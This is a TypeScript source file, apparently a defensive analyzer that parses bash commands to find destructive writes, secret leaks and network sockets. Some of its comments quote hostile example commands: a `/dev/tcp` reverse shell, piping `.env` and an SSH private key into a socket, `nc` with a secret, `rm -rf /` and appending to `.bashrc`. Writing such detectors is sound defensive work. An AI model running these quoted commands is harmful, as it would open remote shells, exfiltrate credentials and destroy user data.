    return { text: interpret ? decodeAnsiC(joined) : joined, producer: name };
  }
  return { text: null, producer: name ?? 'a dynamic command' };
}

/**
 * Package managers' and build tools' questions that print their own cache folder (`rm -rf "$(go env GOMODCACHE)"`,
 * `"$(pip cache dir)"`), answered with the folder's documented default under the home folder: whatever the user
 * configured, the folder printed is the tool's cache, which it fills again by itself (paths.ts reads those defaults as
 * disposable). Each tool's reference: `go help environment` (GOMODCACHE `$GOPATH/pkg/mod`, GOCACHE the user cache
 * dir's `go-build`), npm-config (`cache`, `~/.npm`), pip's `cache dir`, uv's `cache dir`, yarn's `cache dir`, pnpm's
 * `store path`, Composer's `cache-dir`, Poetry's `cache-dir`, Homebrew's `--cache`. Null when the home is unknown.
 */
const CACHE_FOLDER_QUERIES: ReadonlyArray<{ argv: string; under: string }> = [
  { argv: 'go env GOMODCACHE', under: 'go/pkg/mod' },
  { argv: 'go env GOCACHE', under: '.cache/go-build' },
  { argv: 'npm config get cache', under: '.npm' },
  { argv: 'pip cache dir', under: '.cache/pip' },
  { argv: 'pip3 cache dir', under: '.cache/pip' },
  { argv: 'uv cache dir', under: '.cache/uv' },
  { argv: 'yarn cache dir', under: '.cache/yarn' },
  { argv: 'pnpm store path', under: '.local/share/pnpm/store' },
  { argv: 'composer config cache-dir', under: '.cache/composer' },
  { argv: 'composer config --global cache-dir', under: '.cache/composer' },
  { argv: 'poetry config cache-dir', under: '.cache/pypoetry' },
  { argv: 'brew --cache', under: '.cache/Homebrew' },
  // Round 34 (s34): Poetry's virtualenv of the project (`poetry env info --path`: by default under its cache folder,
  // `virtualenvs`, or the project's `.venv`; `poetry install` makes it again) and Bazel's output base (the Bazel docs,
  // "Output directory layout": `~/.cache/bazel/_bazel_$USER/<hash>` on Linux, a temporary folder on macOS; every build
  // fills it again).
  { argv: 'poetry env info --path', under: '.cache/pypoetry/virtualenvs' },
  { argv: 'poetry env info -p', under: '.cache/pypoetry/virtualenvs' },
  { argv: 'bazel info output_base', under: '.cache/bazel' },
];
/** Settings that move a tool's cache folder, or the program a name runs (each tool's reference; `PATH`). */
const CACHE_SETTINGS = /^(PATH|GO(PATH|MODCACHE|CACHE|ENV|FLAGS|ROOT|TOOLCHAIN)|XDG_CACHE_HOME|XDG_DATA_HOME|XDG_CONFIG_HOME|(npm_config|PIP|UV|YARN|PNPM|COMPOSER|POETRY|HOMEBREW)_\w+)$/i;
/**
 * SECURITY: the default is the answer only for the tool itself, as the input leaves it: not a program named by a path
 * (`./go`, perhaps written by the agent), an alias or function of that name, nor with a setting above assigned on the
 * command or earlier in the input (`GOMODCACHE=~ go env GOMODCACHE`).
 */
function cacheFolderIsDefault(cmd: Node, name: string, scope: Pick<ShellScope, 'vars'> & Partial<Pick<ShellScope, 'aliases' | 'functions'>>): boolean {
  if (name.includes('/') || scope.aliases?.has(name) || scope.functions?.has(name)) return false;
  if (cmd.namedChildren.some((c) => c?.type === 'variable_assignment')) return false;
  return ![...scope.vars.keys()].some((k) => CACHE_SETTINGS.test(k));
}
/** Whether a command substitution is one of CACHE_FOLDER_QUERIES, as written (words.ts holdsCacheFolder, answer 359.5). */
function isCacheFolderQuery(node: Node): boolean {
  const inner = node.namedChildren.filter((c): c is Node => c !== null);
  const words = inner.length === 1 && inner[0]!.type === 'command' ? [inner[0]!.childForFieldName('name'), ...inner[0]!.childrenForFieldName('argument')].map((w) => w?.text ?? '') : [];
  return CACHE_FOLDER_QUERIES.some((q) => q.argv === words.join(' '));
}
setCacheFolderQueryTest(isCacheFolderQuery);

function cacheFolderQuery(name: string, args: ReadonlyArray<string | null>, home: string | null): string | null {
  if (home === null || args.some((a) => a === null)) return null;
  const argv = [name, ...args].join(' ');
  const q = CACHE_FOLDER_QUERIES.find((c) => c.argv === argv);
  return q ? `${home.replace(/\/+$/, '')}/${q.under}` : null;
}

/** The first line `tail` passes on: `tail -n +6`, `tail -n+6`, `tail --lines=+6`, `tail +6`; undefined for any other form. */
function tailFrom(args: string[]): number | undefined {
  const joined = args.join(' ');
  const m = /^(?:-n ?|--lines[= ])?\+(\d{1,4})$/.exec(joined);
  return m ? Number(m[1]) : undefined;
}

/**
 * `(crontab -l [2>/dev/null]; echo LINE; printf …)`: the current table followed by fixed lines (the usual way to add a
 * job). Returns the added lines, or null when the group is anything else.
 */
function crontabAppend(group: Node, scope: Pick<ShellScope, 'vars'>): string | null {
  const stages = group.namedChildren.filter((c): c is Node => c !== null && c.type !== 'comment');
  if (stages.length < 2) return null;
  const first = stages[0]!.type === 'redirected_statement' ? stages[0]!.childForFieldName('body') : stages[0]!;
  if (!first || first.type !== 'command') return null;
  const words = [first.childForFieldName('name'), ...first.childrenForFieldName('argument')].map((w) => (w ? evalWord(w, scope.vars).value : null));
  if (words[0] !== 'crontab' || words.length !== 2 || words[1] !== '-l') return null;
  const lines: string[] = [];
  for (const st of stages.slice(1)) {
    if (st.type !== 'command') return null;
    const out = describeProducer(st, scope, null);
    if (out.text === null || !/^(echo|printf)$/.test(out.producer)) return null;
    lines.push(out.text);
  }
  return lines.join('\n');
}

/**
 * `kubectl get KIND NAME… [-n NS] [--context C] -o yaml|json`: named live objects printed whole (a workload kind only: what
 * a mesh injector reads). `KIND NAME…` for the producer's label, or undefined.
 */
function kubeNamedObjects(name: string, args: string[]): string | undefined {
  if (!/^(kubectl|oc|k|kubecolor)$/.test(name)) return undefined;
  const operands: string[] = [];
  let printed = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (/^(-n|--namespace|--context)$/.test(a)) i++;
    else if (/^--(namespace|context)=/.test(a)) continue;
    else if (/^(-o|--output)$/.test(a)) printed = /^(yaml|json)$/.test(args[++i] ?? '');
    else if (/^(-o|--output=)(yaml|json)$/.test(a) || /^-o(yaml|json)$/.test(a)) printed = true;
    else if (a.startsWith('-')) return undefined;
    else operands.push(a);
  }
  if (!printed || operands[0] !== 'get' || operands.length < 3 || !/^(deployments?|deploy|statefulsets?|sts|daemonsets?|ds)(\.apps)?$/.test(operands[1]!)) return undefined;
  return operands.slice(1).join(' ');
}

/** Valued options of `kustomize build` and `kubectl kustomize` (kustomize CLI reference). */
const KUSTOMIZE_VALUED = new Set(['--load-restrictor', '--helm-command', '--env', '-e', '--mount', '--network-name', '--reorder', '--enable-alpha-plugins-path']);

/**
 * `kustomize build [DIR]` and `kubectl kustomize [DIR]` print the manifests rendered from a local kustomization (the
 * current directory by default). Not when the output goes to a file (`-o`), nor from a URL (kept for the reader's remote check).
 */
function renderedKustomization(name: string, args: Array<string | null>): string | undefined {
  const base = name.replace(/^.*\//, '');
  const rest = base === 'kustomize' && args[0] === 'build' ? args.slice(1) : base === 'kubectl' && args[0] === 'kustomize' ? args.slice(1) : null;
  if (rest === null || rest.some((a) => a === null)) return undefined;
  const operands: string[] = [];
  for (let i = 0; i < rest.length; i++) {
    const a = rest[i]!;
    if (a === '-o' || a === '--output' || a.startsWith('--output=') || /^-o./.test(a)) return undefined;
    if (KUSTOMIZE_VALUED.has(a)) i++;
    else if (!a.startsWith('-')) operands.push(a);
  }
  return operands.length <= 1 ? (operands[0] ?? '.') : undefined;
}

/**
 * Service-mesh injectors print the manifest they are given with sidecar containers added (istioctl `kube-inject -f FILE`,
 * `linkerd inject FILE`: Istio and Linkerd CLI references): what reaches the pipe is that local file, rendered. Only the
 * plain forms: another option that reads a file (`--meshConfigFile`, `--valuesFile`), an output file, more than one
 * operand or standard input leave the pipe unknown.
 */
function injectedManifest(name: string, args: Array<string | null>): { file: string; shapedBy: string[] } | undefined {
  const base = name.replace(/^.*\//, '');
  if (args.some((a) => a === null)) return undefined;
  const rest = args as string[];
  if (base === 'istioctl' && rest[0] === 'kube-inject') {
    const files: string[] = [];
    // The injector's own settings files (istioctl kube-inject reference: `--meshConfigFile`, `--injectConfigFile`,
    // `--valuesFile`) shape what is added: local files, bound with the manifest (round 27).
    const shapedBy: string[] = [];
    for (let i = 1; i < rest.length; i++) {
      const a = rest[i]!;
      const setting = /^--(meshConfigFile|injectConfigFile|valuesFile)(=(.*))?$/.exec(a);
      if (a === '-f' || a === '--filename') files.push(rest[++i] ?? '-');
      else if (a.startsWith('--filename=')) files.push(a.slice(11));
      else if (setting) shapedBy.push(setting[2] !== undefined ? setting[3]! : (rest[++i] ?? '-'));
      else if (/^--(revision|context|namespace|istioNamespace)$/.test(a) || /^-[rni]$/.test(a)) i++;
      else if (!/^--(revision|context|namespace|istioNamespace)=/.test(a)) return undefined;
    }
    if (shapedBy.some((f) => f === '-' || f === '' || /^[a-z][a-z0-9+.-]*:\/\//i.test(f))) return undefined;
    return files.length === 1 && files[0] !== '-' ? { file: files[0]!, shapedBy } : undefined;
  }
  if (base === 'linkerd' && rest[0] === 'inject') {
    const operands = rest.slice(1).filter((a) => !a.startsWith('-'));
    return operands.length === 1 && operands[0] !== '-' && rest.slice(1).every((a) => !a.startsWith('-') || a === '--manual' || a.includes('=')) ? { file: operands[0]!, shapedBy: [] } : undefined;
  }
  return undefined;
}

/**
 * `linkerd [viz|jaeger|multicluster] install|upgrade --values FILE` (Linkerd CLI reference: `-f`/`--values` "specify values
 * in a YAML file"): the CLI's own manifests shaped by local values files, which are bound as `helm template -f` binds
 * them (round 27). Only `--values`/`-f` and flags; any other option that takes a value leaves the pipe unknown.
 */
function linkerdInstallWithValues(name: string, args: Array<string | null>): Stdin['rendered'] {
  if (name.replace(/^.*\//, '') !== 'linkerd' || args.some((a) => a === null)) return undefined;
  const rest = args as string[];
  const values: string[] = [];
  const ops: string[] = [];
  for (let i = 0; i < rest.length; i++) {
    const a = rest[i]!;
    if (a === '-f' || a === '--values') values.push(rest[++i] ?? '-');
    else if (a.startsWith('--values=')) values.push(a.slice(9));
    else if (/^--(crds|ha|disable-heartbeat|skip-checks|ignore-cluster)$/.test(a)) continue;
    else if (a.startsWith('-')) return undefined;
    else ops.push(a);
  }
  if (values.length === 0 || values.some((v) => v === '-' || /^[a-z][a-z0-9+.-]*:\/\//i.test(v)) || !/^((viz|jaeger|multicluster) )?(install|upgrade)$/.test(ops.join(' '))) return undefined;
  return { path: values[0]!, role: 'manifest', values: values.slice(1) };
}

/** `helm template` options that take a value and leave the output to the pipe (Helm CLI reference). */
const HELM_TEMPLATE_VALUED = new Set(['-n', '--namespace', '--version', '--kube-version', '--api-versions', '-a', '--name-template', '--description', '--timeout', '--set', '--set-string', '--set-json', '-s', '--show-only']);
/** `helm template` flags that change nothing about where the manifests come from. */
const HELM_TEMPLATE_FLAGS = /^--(include-crds|skip-crds|skip-tests|debug|no-hooks|is-upgrade|validate|dependency-update|create-namespace|atomic|wait|disable-openapi-validation|dry-run)$/;

/**
 * `helm template [NAME] CHART [-f VALUES]…` with a local chart (`./dir`, `../dir`, `/dir` or a packaged `.tgz`) prints the
 * manifests rendered from that chart and those values files. Not a repository chart (`bitnami/kafka`, `oci://…`, `--repo`:
 * fetched when it runs), a values file from a URL or standard input, `--set-file`, a post-renderer (a program that
 * rewrites the output) or an output directory, nor any option not listed here.
 */
function renderedHelmChart(name: string, args: Array<string | null>): Stdin['rendered'] {
  if (name.replace(/^.*\//, '') !== 'helm' || args[0] !== 'template' || args.some((a) => a === null)) return undefined;
  const rest = (args as string[]).slice(1);
  const operands: string[] = [];
  const values: string[] = [];
  for (let i = 0; i < rest.length; i++) {
    const a = rest[i]!;
    const eq = a.indexOf('=');
    const opt = a.startsWith('--') && eq !== -1 ? a.slice(0, eq) : a;
    if (opt === '-f' || opt === '--values') {
      const v = opt === a ? rest[++i] : a.slice(eq + 1);
      if (v === undefined || v === '-' || /^[a-z][a-z0-9+.-]*:\/\//i.test(v)) return undefined;
      values.push(v);
    } else if (HELM_TEMPLATE_VALUED.has(opt)) {
      if (opt === a) i++;
    } else if (HELM_TEMPLATE_FLAGS.test(a)) continue;
    else if (a.startsWith('-')) return undefined;
    else operands.push(a);
  }
  const chart = operands[operands.length - 1];
  if (operands.length < 1 || operands.length > 2 || chart === undefined || !/^(\.{1,2}\/|\/)|\.tgz$/.test(chart)) return undefined;
  return { path: chart, role: 'manifest', recursive: true, values };
}

function renderedManifests(name: string, args: Array<string | null>): Stdin['rendered'] {
  const dir = renderedKustomization(name, args);
  if (dir !== undefined) return { path: dir, role: 'kustomization' };
  const chart = renderedHelmChart(name, args);
  if (chart !== undefined) return chart;
  const injected = injectedManifest(name, args);
  if (injected !== undefined) return { path: injected.file, role: 'manifest', values: injected.shapedBy };
  return linkerdInstallWithValues(name, args);
}

/**
 * CLIs that print their own install, upgrade or uninstall manifests, shaped only by their arguments (Linkerd CLI
 * reference: `install`, `install --crds`, `upgrade`, `uninstall` and the same for its `viz`, `jaeger`, `multicluster`
 * extensions "output Kubernetes configs"; `istioctl manifest generate`). Not with a values or overlay file (`-f`,
 * `--values`, `--set-file`): that file shapes them and would need binding.
 */
function generatedManifests(name: string, args: Array<string | null>, shown: readonly string[] = []): string | undefined {
  const base = name.replace(/^.*\//, '');
  // `kubectl create secret generic S --from-literal=token="$NEW_TOKEN" --dry-run=client -o yaml`: a value the input does
  // not fix (a variable, not a command's output) fills one literal key; the object's kind, name and keys stay fixed by the
  // command line (round 26).
  const rest = args.map((a, i) => a ?? (base === 'kubectl' && /^--from-literal=[\w.-]+=("?)\$\{?\w+\}?\1$/.test(shown[i] ?? '') ? '--from-literal=' : null));
  if (rest.some((a) => a === null)) return undefined;
  const fixed = rest as string[];
  const ops = base === 'kubectl' ? kubectlOperands(fixed) : fixed.filter((a) => !a.startsWith('-'));
  const shaped = fixed.some((a) => /^(-f|--values|--filename|--set-file|--manifests|-d)(=|$)/.test(a));
  if (shaped) return undefined;
  if (base === 'linkerd' && /^((viz|jaeger|multicluster) )?(install|upgrade|uninstall)$/.test(ops.join(' '))) return `linkerd ${ops.join(' ')}`;
  if (base === 'istioctl' && ops.join(' ') === 'manifest generate') return 'istioctl manifest generate';
  const created = kubectlCreatePrinted(base, ops, fixed);
  if (created !== undefined) return created;
  return undefined;
}

/** kubectl's connection options that take their value as the next word (kubectl options(1)); `--kubeconfig` is refused apart. */
const KUBECTL_CONNECTION_VALUED = new Set(['--context', '--cluster', '--user', '-n', '--namespace', '--as', '--as-group', '-s', '--server']);

/**
 * A kubectl line's operands: words that are not options and not the value of a connection option given as the next word,
 * so `kubectl --context prod-eu -n payments create secret …` has `create` first, as `kubectl create secret … -n payments`
 * does (round 32: the context's name had been read as the verb, and the idiom fell back to unseen standard input).
 */
function kubectlOperands(args: string[]): string[] {
  const ops: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (KUBECTL_CONNECTION_VALUED.has(a)) i++;
    else if (!a.startsWith('-')) ops.push(a);
  }
  return ops;
}

/**
 * `kubectl create configmap|secret|namespace|serviceaccount NAME … --dry-run=client -o yaml`, the create-or-update idiom
 * (`… | kubectl apply -f -`): kubectl prints the object from its own fixed arguments (literals, not files: `--from-file`,
 * `--from-env-file`, `--cert`, `--key` read local files and are not bound here), and these kinds hold no replica count,
 * role or policy that applying them could switch off.
 */
function kubectlCreatePrinted(base: string, ops: string[], args: string[]): string | undefined {
  if (base !== 'kubectl' || ops[0] !== 'create' || !/^(configmaps?|cm|secret|namespaces?|ns|serviceaccounts?|sa)$/.test(ops[1] ?? '')) return undefined;
  const printed = args.some((a) => /^--dry-run(=(client|server))?$/.test(a)) && args.some((a, i) => /^(-o|--output)=?(yaml|json)$/.test(a) || (/^(-o|--output)$/.test(a) && /^(yaml|json)$/.test(args[i + 1] ?? '')) || a === '-oyaml' || a === '-ojson');
  if (!printed || args.some((a) => /^--(from-file|from-env-file|cert|key|kubeconfig)(=|$)/.test(a))) return undefined;
  return `kubectl create ${ops.slice(1, ops[1] === 'secret' ? 4 : 3).join(' ')}`;
}

/** The file a `< FILE` redirect of this statement reads as standard input (bash(1), "Redirecting Input"), or null. */
function redirectedInputFile(node: Node, scope: Pick<ShellScope, 'vars'>): string | null {
  for (const r of node.childrenForFieldName('redirect')) {
    if (r?.type !== 'file_redirect' || !/^\d*<(?![<&>])/.test(r.text)) continue;
    const dest = r.childForFieldName('destination');
    return dest ? evalWord(dest, scope.vars).value : null;
  }
  return null;
}

function heredocText(node: Node, scope: Pick<ShellScope, 'vars'>): string | null {
  for (const r of node.childrenForFieldName('redirect')) {
    if (r?.type === 'heredoc_redirect') {
      const body = r.namedChildren.find((c) => c?.type === 'heredoc_body');
      if (!body) return '';
      const start = r.namedChildren.find((c) => c?.type === 'heredoc_start');
      const quoted = /['"\\]/.test(start?.text ?? '');
      // tree-sitter-bash leaves a body's first line out of the body node when it starts with `\` (`\rm -rf ~`, psql's
      // `\i`): the body is every line after the one the redirect is on (bash(1), "Here Documents").
      const eol = r.text.indexOf('\n', (start?.endIndex ?? r.startIndex) - r.startIndex);
      const whole = eol < 0 ? body.text : r.text.slice(eol + 1, body.endIndex - r.startIndex);
      if (whole !== body.text) return quoted ? whole : null;
      return quoted ? body.text : heredocExpand(body, scope);
    }
    if (r?.type === 'herestring_redirect') {
      const w = r.namedChildren[0];
      return w ? evalWord(w, scope.vars).value : null;
    }
  }
  return null;
}

/** What a statement's here-string holds when it expands a variable holding a secret (SECRET_VARIABLE_MARK). */
function herestringSecret(nodes: readonly Node[], scope: Pick<ShellScope, 'vars'>): string | undefined {
  for (const r of nodes.flatMap((n) => n.children)) {
    if (r?.type !== 'herestring_redirect') continue;
    const held = r.namedChildren[0] ? secretVariableExpanded(r.namedChildren[0].text, scope.vars) : undefined;
    if (held !== undefined) return scope.vars.get(`${SECRET_VARIABLE_MARK}${held}`) ?? undefined;
  }
  return undefined;
}

/** An unquoted heredoc with expansions: fixed only if every expansion is known. */
function heredocExpand(body: Node, scope: Pick<ShellScope, 'vars'>): string | null {
  let out = '';
  let pos = body.startIndex;
  for (const c of body.namedChildren) {
    if (!c) continue;
    out += body.text.slice(pos - body.startIndex, c.startIndex - body.startIndex);
    const v = c.type === 'heredoc_content' ? c.text : evalWord(c, scope.vars).value;
    if (v === null) return null;
    out += v;
    pos = c.endIndex;
  }
  return out + body.text.slice(pos - body.startIndex);
}

function visitRedirected(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  recordNamesFile(node, scope, stdin);
  const redirects: Redirect[] = [];
  const trailing: Node[] = [];
  let input = stdin;
  for (const r of node.childrenForFieldName('redirect')) {
    if (!r) continue;
    if (r.type === 'file_redirect') {
      const dest = r.childForFieldName('destination');
      if (dest) visitSubstitutions(dest, scope, env, offset);
      trailing.push(...redirectOperands(r).filter((d) => gluedDescriptor(d) === null));
      const op = r.children.find((c) => c && !c.isNamed && /[<>]/.test(c.type))?.type ?? '>';
      const glued = descriptorOf(r).fd === undefined ? gluedDescriptorOf(r) : null;
      redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + r.startIndex, end: offset + r.endIndex }, ...(glued !== null ? { fd: glued } : descriptorOf(r)) });
      if (op === '<' && dest) input = { text: null, producer: `the file \`${dest.text}\``, file: toWord(dest, scope.vars, offset).value };
    }
  }
  const doc = heredocText(node, scope);
  const hasDoc = node.childrenForFieldName('redirect').some((r) => r?.type === 'heredoc_redirect' || r?.type === 'herestring_redirect');
  if (hasDoc) input = { text: doc, producer: 'a heredoc' };
  // Redirects nested under a heredoc redirect (`cat <<EOF > f`).
  for (const r of node.childrenForFieldName('redirect')) {
    if (r?.type !== 'heredoc_redirect') continue;
    for (const inner of r.namedChildren) {
      if (inner?.type === 'file_redirect') {
        const dest = inner.childForFieldName('destination');
        const op = inner.children.find((c) => c && !c.isNamed && /[<>]/.test(c.type))?.type ?? '>';
        redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + inner.startIndex, end: offset + inner.endIndex }, ...descriptorOf(inner) });
      }
    }
  }
  const body = node.childForFieldName('body');
  if (!body) {
    for (const r of redirects) dispatchRedirectOnly(r, scope, env);
    return;
  }
  if (body.type === 'command') {
    if (heredocText(node, scope) !== null) recordWrites(node, redirects, scope, env);
    visitCommand(body, scope, env, input, offset, redirects, heredocText(node, scope) !== null, trailing);
  } else {
    // bash gives the redirect to the last command of a pipeline or of an `&&`/`||` list that tree-sitter-bash hangs it on.
    const last = body.type === 'pipeline' || body.type === 'list' ? body.namedChildren[body.namedChildCount - 1] : null;
    // `mkdir -p d && cat > d/f <<'EOF'`: the heredoc tree-sitter-bash hangs on the list is the last command's input too.
    const doc = hasDoc ? input : null;
    // tree-sitter-bash hangs `test -f F || printf … > F`'s redirect on the whole list; bash gives it to the right side,
    // which runs only when F is absent.
    const absent = body.type === 'list' ? existenceGuard(body, scope) : null;
    // A simple command last (`cd /srv && rm -rf 2>/dev/null /`, `cd d && sort -u f > f`) takes the redirects and the
    // operands after them as its own when the walk reaches it: in the scope the list has made by then (a `cd` earlier
    // moved the folder relative paths resolve in). SECURITY: the operands were dropped and the command judged without them.
    const taker = lastSimpleCommand(body);
    if (!taker) recordWrites(last ?? body, redirects, scope, env, doc);
    if (!taker) compoundIntoSocket(body, redirects, scope, env, offset);
    const handOff: HandOff | undefined = taker ? { tree: taker.tree, at: taker.startIndex, redirects, trailing, doc } : undefined;
    const outer = env.handOff;
    env.handOff = handOff;
    try {
      visit(body, scope, env, input, offset);
    } finally {
      env.handOff = outer;
    }
    if (handOff?.taken) return visitHeredocTails(node, scope, env, stdin, offset);
    // The redirect is the last command's: a `cd` earlier in the list (`cd ~ && echo x >> .bashrc`) has moved
    // the folder its relative path is resolved in (SECURITY: resolving it first placed ~/.bashrc in the project).
    const at = absent === null ? scope : guardedAbsent(scope, absent);
    for (const r of redirects) dispatchRedirectOnly(r, at, env, false);
  }
  visitHeredocTails(node, scope, env, stdin, offset);
}

/**
 * A compound statement's output sent into a socket (`{ cat .env; uname -a; } >&3`, `while …; done > /dev/tcp/H/P`): each
 * command inside prints into it, so each is judged as sent with `nc H P` (sockets.ts), as a simple command's output is.
 */
function compoundIntoSocket(body: Node, redirects: Redirect[], scope: ShellScope, env: ShellEnv, offset: number): void {
  const out = commandSockets(redirects, scope).output;
  if (out === null) return;
  for (const cmd of body.descendantsOfType('command')) {
    if (!cmd) continue;
    const producer = cmd.parent?.type === 'redirected_statement' && cmd.parent.childForFieldName('body')?.id === cmd.id ? cmd.parent : cmd;
    runNested(senderOf(out), { ...withoutSockets(childScope(scope)), depth: scope.depth + 1 }, env, describeProducer(producer, scope, null), offset + cmd.startIndex);
  }
}

/** The simple command bash gives a list's or pipeline's trailing redirects to: the last one, when it is a command. */
function lastSimpleCommand(body: Node): Node | null {
  let last: Node | null = body;
  while (last && (last.type === 'list' || last.type === 'pipeline')) last = last.namedChildren[last.namedChildCount - 1] ?? null;
  return last?.type === 'command' ? last : null;
}

/** What tree-sitter-bash hangs under a heredoc after `<<EOF` on its line (`| bash`, `&& next`): walked after the body. */
function visitHeredocTails(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  for (const r of node.childrenForFieldName('redirect')) {
    if (r?.type !== 'heredoc_redirect') continue;
    for (const inner of r.namedChildren) {
      if (!inner || /^heredoc_|^file_redirect$/.test(inner.type)) continue;
      const piped = inner.type === 'pipeline' ? describeProducer(node, scope, stdin) : null;
      visit(inner, scope, env, piped, offset);
    }
  }
}

/** A redirect with no simple command of its own: bare (`> f`, truncates) or after a compound (`{ ...; } > f`, writes). */
function dispatchRedirectOnly(r: Redirect, scope: ShellScope, env: ShellEnv, bare = true): void {
  const inv = makeInvocation(bare ? ':' : '{}', [], [r], null, new Map(), r.span, scope, env);
  dispatchCommand(inv);
}

/** The descriptor a redirect names before its operator (`3>&1`), as a field of the Redirect. */
function descriptorOf(r: Node): { fd?: string } {
  const fd = r.childForFieldName('descriptor')?.text;
  return fd === undefined ? {} : { fd };
}

/**
 * tree-sitter-bash reads `bash -i >& /dev/tcp/H/P 0>&1` as the operand `0` after the first redirect's target and a `>&1`
 * with no descriptor; bash reads `0>&1` (digits written against the operator name its descriptor: bash(1), REDIRECTION).
 * The number operand written against the next redirect, or null.
 */
function gluedDescriptor(d: Node): string | null {
  const next = d.parent?.nextSibling;
  return d.type === 'number' && /^\d+$/.test(d.text) && next?.type === 'file_redirect' && next.startIndex === d.endIndex && !next.childForFieldName('descriptor') && d.parent?.lastChild?.id === d.id ? d.text : null;
}

/** The descriptor written against this redirect's operator that the grammar gave the redirect before it (gluedDescriptor). */
function gluedDescriptorOf(r: Node): string | null {
  const before = r.previousSibling;
  const last = before?.type === 'file_redirect' ? before.lastChild : null;
  return last ? gluedDescriptor(last) : null;
}

/**
 * Words after a redirection's target are the command's operands (`rm -rf 2>/dev/null /` runs
 * `rm -rf /`): tree-sitter-bash hangs them on the redirect as further destinations.
 */
function redirectOperands(r: Node): Node[] {
  return r.childrenForFieldName('destination').slice(1).filter((d): d is Node => d !== null);
}

function visitCommand(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number, extraRedirects: Redirect[], writesRecorded = false, trailing: Node[] = []): void {
  // The grammar accepts `name (…)` as a command with a subshell operand; bash does not ("syntax error near
  // unexpected token"), except after the reserved words `time` and `coproc`. API calls pasted as a shell line
  // (`gateway.customer.delete('c1')`, also with a redirect after it) are such input: opaque, like any other syntax
  // error (F1).
  const sub = node.namedChildren.find((c) => c?.type === 'subshell');
  const name = node.childForFieldName('name')?.text;
  if (sub && name !== 'time' && name !== 'coproc') {
    env.b.opaque('shell_syntax_error', `bash does not run \`${name ?? '?'} (…)\`: a parenthesis after a word is a syntax error`, { start: offset + node.startIndex, end: offset + node.endIndex });
  }
  const assignments = new Map<string, string | null>();
  let searchPath: string | undefined;
  const words: Word[] = [];
  const redirects = [...extraRedirects];
  let input = stdin;
  const parts: Node[] = [];
  for (const c of node.namedChildren) {
    if (!c) continue;
    parts.push(c);
    if (c.type === 'file_redirect') parts.push(...redirectOperands(c));
  }
  for (const c of [...parts, ...trailing]) {
    visitSubstitutions(c, scope, env, offset);
    if (c.type === 'variable_assignment') {
      const name = c.childForFieldName('name')?.text;
      const value = c.childForFieldName('value');
      if (name) {
        const v = value ? assignedValue(name, value, scope.vars) : '';
        assignments.set(name, v);
        if (name === 'PATH') searchPath = value?.text ?? '';
        if (name.startsWith('TF_CLI_ARGS')) checkAssignmentEffects(name, v, env, { start: offset + c.startIndex, end: offset + c.endIndex });
      }
    } else if (c.type === 'command_name') {
      // `$CMD args`: the name is split like any unquoted expansion (`C='rm -rf'; $C /`).
      words.push(...splitUnquoted(c.namedChildren[0] ?? c, toWord(c, scope.vars, offset), scope));
    } else if (c.type === 'file_redirect') {
      const dest = c.childForFieldName('destination');
      const op = c.children.find((x) => x && !x.isNamed && /[<>]/.test(x.type))?.type ?? '>';
      redirects.push({ op, target: dest ? toWord(dest, scope.vars, offset) : null, span: { start: offset + c.startIndex, end: offset + c.endIndex }, ...descriptorOf(c) });
      if (op === '<' && dest) input = { text: null, producer: `the file \`${dest.text}\``, file: toWord(dest, scope.vars, offset).value };
    } else if (c.type === 'herestring_redirect') {
      const w = c.namedChildren[0];
      // Round 42 (nxa42, answer 431.4): a here-string of a variable holding a secret feeds that secret (`nc h 80 <<< "$T"`).
      const held = w ? secretVariableExpanded(w.text, scope.vars) : undefined;
      input = { text: w ? evalWord(w, scope.vars).value : null, producer: 'a here-string', ...(held !== undefined ? { secret: scope.vars.get(`${SECRET_VARIABLE_MARK}${held}`)! } : {}) };
    } else {
      for (const w of splitUnquoted(c, toWord(c, scope.vars, offset), scope)) words.push(...expandBraces(w));
    }
  }
  const span = { start: offset + node.startIndex, end: offset + node.endIndex };
  if (words.length === 0) {
    for (const r of redirects) dispatchRedirectOnly(r, scope, env);
    return;
  }
  // Network redirections (sockets.ts): `exec` alone keeps its descriptors for the shell; a command reading a socket
  // reads the network, and what it prints into one is judged as sent with `nc H P`.
  const namedFd = words.length === 2 && words[0]!.value === 'exec' && /^\{[A-Za-z_]\w*\}$/.test(words[1]!.value ?? '') && redirects.length > 0 ? words[1]!.value! : null;
  if (namedFd !== null) {
    redirects[0] = { ...redirects[0]!, fd: namedFd };
    words.pop();
  }
  const sockets = redirects.length > 0 || shellHasSockets(scope) ? commandSockets(redirects, scope) : null;
  if (sockets !== null && words.length === 1 && words[0]!.value === 'exec') keepShellSockets(scope, sockets.changed);
  else if (sockets?.input) {
    const program = words[0]!.value?.replace(/^.*\//, '') ?? null;
    // SECURITY: a shell whose input is a socket runs what the peer sends (a reverse shell); a name not fixed may be one.
    if (program === null || RUNS_ITS_INPUT.test(program)) env.b.opaque('reverse_shell', `\`${program ?? words[0]!.text}\` runs commands read from the network socket \`${sockets.input.host}:${sockets.input.port}\``, span);
    input = { text: null, producer: `the network socket \`${sockets.input.host}:${sockets.input.port}\`` };
  }
  if (sockets?.output && !(words.length === 1 && words[0]!.value === 'exec')) {
    // The statement the redirects hang on (`base64 < ~/.ssh/id_rsa >&3`): its `<` is the producer's input.
    const producer = node.parent?.type === 'redirected_statement' && node.parent.childForFieldName('body')?.id === node.id ? node.parent : node;
    runNested(senderOf(sockets.output), { ...withoutSockets(childScope(scope)), depth: scope.depth + 1 }, env, describeProducer(producer, scope, input), span.start);
  }
  if (!writesRecorded) recordWrites(node, redirects, scope, env);
  const inv = makeInvocation('', words, redirects, input, assignments, span, scope, env);
  if (searchPath !== undefined) inv.search!.path = searchPath;
  // `linode-cli linodes delete $(linode-cli linodes list --label ci-run-8812 …)`: a last word that is one listing's
  // substitution holds what that listing prints (disposable-listing.ts), as a `for` loop's variable does (visitFor), keyed
  // by the word's text.
  // The one substitution among the words, when it is not last (`doctl apps delete $(LISTING) --force`), is read alike.
